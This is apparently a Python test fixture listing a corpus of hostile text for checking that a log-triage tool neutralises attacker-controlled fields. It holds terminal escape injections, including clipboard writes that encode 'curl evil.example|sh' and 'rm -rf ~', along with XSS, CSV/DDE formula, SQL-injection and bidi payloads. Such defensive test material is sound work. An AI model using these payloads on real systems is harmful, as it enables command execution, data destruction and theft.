"""The hostile-text corpus: what an adversary writes into the fields farmhound shows, one named entry
per trick. `tests/test_hostile.py` writes every entry into every attacker-controlled field of a
request log and an accounts file, ingests them, triages, cases and exports them, and asserts that
no output lets any of it act: no terminal escape reaches a terminal, no markup is interpreted, no
HTML/JS or Markdown link survives in a report, no CSV cell runs as a formula, and every JSON output
keeps the text as data (intact, or visibly escaped).

Each entry is (name, class, text). `RAW_REQUEST_LINES` and `RAW_ACCOUNT_LINES` hold what no
Python string of valid Unicode can: lines of invalid UTF-8, written into the files themselves.

Not here: the checks (`tests/test_hostile.py`).
"""

from __future__ import annotations

from dataclasses import dataclass

MB = 1 << 20


@dataclass(frozen=True)
class Entry:
    name: str
    cls: str
    text: str

    @property
    def storable(self) -> bool:
        """False for text no store row can hold (NUL, lone surrogates): those rows are quarantined."""
        return "\x00" not in self.text and not any(0xD800 <= ord(c) <= 0xDFFF for c in self.text)

    @property
    def huge(self) -> bool:
        return len(self.text) > 64 * 1024


_E = Entry
ENTRIES: list[Entry] = [
    # -- ANSI CSI (7-bit) ------------------------------------------------------------------------
    _E("csi-clear-home", "ansi-csi", "\x1b[2J\x1b[Hscreen cleared"),
    _E("csi-colour", "ansi-csi", "\x1b[31mred alert\x1b[0m normal"),
    _E("csi-hidden-text", "ansi-csi", "shown\x1b[8m hidden from the analyst\x1b[28m"),
    _E("csi-cursor-up-erase", "ansi-csi", "innocent\x1b[1A\x1b[2Krewritten line above"),
    _E("csi-alt-screen-mouse", "ansi-csi", "\x1b[?1049h\x1b[?1000h\x1b[?25lhidden cursor"),
    _E("csi-report-requests", "ansi-csi", "\x1b[6n\x1b[21t\x1b[c answer me"),
    _E("csi-bracketed-paste-end", "ansi-csi", "\x1b[201~rm -rf ~\n\x1b[200~"),
    # -- 8-bit C1 controls -------------------------------------------------------------------------
    _E("c1-csi-clear", "c1", "\x9b2J\x9bHeight-bit clear"),
    _E("c1-csi-colour", "c1", "\x9b31mred\x9b0m"),
    _E("c1-osc-title", "c1", "\x9d0;c1 title\x9c"),
    _E("c1-nel-ri", "c1", "next\x85line\x8dreverse"),
    # -- OSC: title, clipboard, hyperlinks, notifications, palette --------------------------------
    _E("osc0-title-bel", "osc", "\x1b]0;pwned title\x07after"),
    _E("osc2-title-st", "osc", "\x1b]2;pwned title\x1b\\after"),
    _E("osc52-clipboard-write", "osc", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07copied"),
    _E("osc52-clipboard-st", "osc", "\x1b]52;p;cm0gLXJmIH4=\x1b\\primary"),
    _E("osc8-hyperlink", "osc", "\x1b]8;;https://evil.example/pay\x1b\\click me\x1b]8;;\x1b\\"),
    _E("osc1337-file", "osc", "\x1b]1337;File=inline=1:QUFBQQ==\x07image"),
    _E("osc777-notify-palette", "osc", "\x1b]777;notify;pwned;body\x07\x1b]4;1;rgb:00/00/00\x07"),
    # -- DCS / APC / PM / SOS strings ------------------------------------------------------------------
    _E("dcs-xtgettcap", "string", "\x1bP+q544e\x1b\\dcs"),
    _E("dcs-decrqss", "string", '\x1bP$q"p\x1b\\'),
    _E("apc-kitty-graphics", "string", "\x1b_Ga=T,f=100;QUFBQQ==\x1b\\apc"),
    _E("pm-private", "string", "\x1b^private message\x1b\\pm"),
    _E("sos-string", "string", "\x1bXstart of string\x1b\\sos"),
    _E("c1-dcs-apc-sos", "string", "\x90q\x9c\x9fapc\x9c\x98sos\x9c\x9epm\x9c"),
    # -- other escapes, BEL, overwrite tricks ----------------------------------------------------------
    _E("esc-reset", "esc", "\x1bcterminal reset"),
    _E("esc-save-restore-decaln", "esc", "\x1b7\x1b#8\x1b8filled with E"),
    _E("esc-charset-shift", "esc", "\x1b(0lqqk\x1b(B\x0eshift out\x0f"),
    _E("bel", "bel", "ding\x07\x07\x07"),
    _E("cr-overwrite", "overwrite", "safe\rEVIL"),
    _E("backspace-overwrite", "overwrite", "EVIL\x08\x08\x08\x08safe"),
    _E("vt-ff-del", "overwrite", "ok\x0bvt\x0cff\x7fdel"),
    _E("newline-fake-row", "overwrite", "one\nacct_fake | critical | 99.9\r\nrow"),
    _E("unicode-line-separators", "overwrite", "line\u2028separator\u2029paragraph\x85nel"),
    _E("nul", "nul", "nul\x00byte"),
    # -- Rich and Textual markup ---------------------------------------------------------------------------
    _E("rich-style", "markup", "[bold red]boss[/] [reverse]and[/reverse]"),
    _E("textual-click-quit", "markup", "[@click=app.quit]quit[/]"),
    _E("textual-click-screen", "markup", "[@click=screen.dismiss]close[/] [@click=app.bell()]b[/]"),
    _E("rich-link", "markup", "[link=https://evil.example/pay]pay here[/link]"),
    _E("markup-close-all", "markup", "[/]"),
    _E("markup-unmatched-close", "markup", "x[/bold] y[/link]"),
    _E("textual-variable", "markup", "[$accent]theme[/] [$text-muted on $error]v[/]"),
    _E("textual-upper-b", "markup", "[B]bold?[/B] [b]b[/b] [i]i"),
    _E("rich-emoji-code", "markup", ":warning: :skull: :smiley:"),
    _E("markup-escapes", "markup", "\\[not markup] \\\\[bold]x[/bold]"),
    # -- HTML / JavaScript -----------------------------------------------------------------------------------
    _E("html-script", "html", "<script>alert(1)</script>"),
    _E("html-img-onerror", "html", "<img src=x onerror=alert(1)>"),
    _E("html-svg-onload", "html", "<svg onload=alert(1)><foreignObject></svg>"),
    _E("html-textarea-break", "html", "</textarea><script>alert(1)</script>"),
    _E("html-style-break", "html", "</style><script>alert(1)</script>"),
    _E("html-title-refresh", "html", '</title><meta http-equiv="refresh" content="0;url=https://evil.example">'),
    _E("html-attr-break", "html", "\"><iframe src=//evil.example></iframe>' onmouseover='alert(1)"),
    _E("html-javascript-url", "html", "javascript:alert(document.cookie)"),
    _E("html-anchor-js", "html", '<a href="javascript:alert(1)">click</a>'),
    _E("html-pre-escaped", "html", "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:"),
    _E("html-comment-cdata-base", "html", '--><!-- <![CDATA[ x ]]> <base href="https://evil.example/">'),
    _E("html-data-url", "html", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    # -- Markdown ---------------------------------------------------------------------------------------------
    _E("md-link-js", "markdown", "[click](javascript:alert(1))"),
    _E("md-image", "markdown", "![pixel](https://evil.example/p.png)"),
    _E("md-raw-html", "markdown", "<b>raw</b><details open><summary>x</summary>"),
    _E("md-heading", "markdown", "# Injected heading\n## another"),
    _E("md-table-cells", "markdown", "a | b | c\n|---|---|---|\n| x | y | z |"),
    _E("md-linkify", "markdown", "https://evil.example/pay www.evil.example ops@evil.example mailto:x@evil.example"),
    _E("md-autolink-ref", "markdown", "<https://evil.example> [r][1]\n\n[1]: https://evil.example \"t\""),
    _E("md-emphasis-code", "markdown", "**bold** _em_ ~~strike~~ `code` ***"),
    _E("md-blocks", "markdown", "- list\n1. item\n> quote\n---\n```\nfence"),
    # -- CSV / DDE formulas -----------------------------------------------------------------------------------
    _E("csv-equals", "csv", "=1+1"),
    _E("csv-plus", "csv", "+1+1"),
    _E("csv-minus", "csv", "-1+1"),
    _E("csv-at", "csv", "@SUM(1+1)*cmd"),
    _E("csv-tab", "csv", "\t=1+1"),
    _E("csv-cr", "csv", "\r=1+1"),
    _E("csv-dde-calc", "csv", "=cmd|' /C calc'!A0"),
    _E("csv-hyperlink", "csv", '=HYPERLINK("https://evil.example?x="&A1,"click")'),
    _E("csv-fullwidth-equals", "csv", "\uff1d1+1"),
    _E("csv-fullwidth-others", "csv", "\uff0b1 \uff0d1 \uff20SUM(1)"),
    _E("csv-leading-space", "csv", "  =1+1"),
    _E("csv-quote-break", "csv", '",=1+1,"'),
    # -- bidi ---------------------------------------------------------------------------------------------------
    _E("bidi-rlo", "bidi", "invoice\u202efdp.exe"),
    _E("bidi-embeddings", "bidi", "\u202aLRE\u202bRLE\u202dLRO\u202cPDF"),
    _E("bidi-isolates", "bidi", "\u2066LRI\u2067RLI\u2068FSI\u2069PDI"),
    _E("bidi-marks", "bidi", "\u200eLRM\u200fRLM\u061cALM"),
    _E("bidi-trojan-source", "bidi", 'access != "user\u202e \u2066// admin check\u2069 \u2066"'),
    # -- zero-width and other invisible characters -------------------------------------------------------------
    _E("zw-space-joiners", "invisible", "acct\u200b_\u200c1\u200d"),
    _E("zw-word-joiner-bom", "invisible", "a\u2060b\ufeffc\u2061d\u2064"),
    _E("invisible-soft-hyphen-mvs", "invisible", "ad\u00admin\u180eroot"),
    _E("invisible-tag-smuggling", "invisible", "hello\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 world"),
    _E("invisible-annotation", "invisible", "\ufff9base\ufffaruby\ufffb"),
    # -- lone surrogates (as JSON escapes; the invalid UTF-8 bytes are in RAW_LINES) ----------------------------
    _E("surrogate-high", "surrogate", "lone \ud800 high"),
    _E("surrogate-low-reversed", "surrogate", "low \udfff reversed \udc00\ud800"),
    _E("surrogate-escape-byte", "surrogate", "argv byte \udcff"),
    # -- size -----------------------------------------------------------------------------------------------------
    _E("token-1mb", "huge", "T" * MB),
    _E("token-1mb-escapes", "huge", ("\x1b[31m\u202e[b]<i>=" + "y" * 1000) * (MB // 1016)),
    _E("combining-long", "combining", "Z" + "\u0336\u0301\u0316" * 4000 + " zalgo"),
    _E("combining-no-base", "combining", "\u0301" * 20000),
    # -- SQL ------------------------------------------------------------------------------------------------------
    _E("sql-drop", "sql", "'; DROP TABLE requests; --"),
    _E("sql-or", "sql", '" OR 1=1 -- \' OR \'\'=\''),
    _E("sql-like-wildcards", "sql", "100%_match\\%"),
    # -- text that is data and must survive intact --------------------------------------------------------------
    _E("emoji-zwj-family", "emoji", "family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"),
    _E("emoji-flags-tones", "emoji", "\U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1fa\U0001f1e6 \U0001f44d\U0001f3fd"),
    _E("emoji-subdivision-flag", "emoji", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f scotland"),
    _E("rtl-and-cjk", "emoji", "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd \u4f60\u597d \uc548\ub155"),
    _E("homoglyph-nfd", "emoji", "\u0430dmin e\u0301t\u00e9"),
]

# Lines that are not valid UTF-8 (a lone surrogate as its CESU bytes, a stray continuation byte, an
# overlong encoding, a byte 0xff), for the request log and the accounts file.
RAW_REQUEST_LINES: list[bytes] = [
    b'{"request_id": "raw_surrogate", "ts": "2026-04-24T01:00:00Z", "account_id": "raw_\xed\xa0\x80", "prompt": "x"}',
    b'{"request_id": "raw_ff", "ts": "2026-04-24T01:00:00Z", "account_id": "raw_ff", "user_agent": "ua \xff\xfe\x1b[2J"}',
    b'{"request_id": "raw_overlong", "ts": "2026-04-24T01:00:00Z", "account_id": "raw_c0", "prompt": "\xc0\xbcscript\xc0\xbe"}',
    b'{"request_id": "raw_c1_bytes", "ts": "2026-04-24T01:00:00Z", "account_id": "raw_9b", "prompt": "\x9b2J \x80"}',
]
RAW_ACCOUNT_LINES: list[bytes] = [
    b"raw_acct_\xed\xb0\x80,2026-04-23T10:00:00Z,x\xff@evil.example,pf,1,US,203.0.113.1,,free,true",
]

assert len({e.name for e in ENTRIES}) == len(ENTRIES), "corpus names must be unique"
CLASSES = sorted({e.cls for e in ENTRIES})
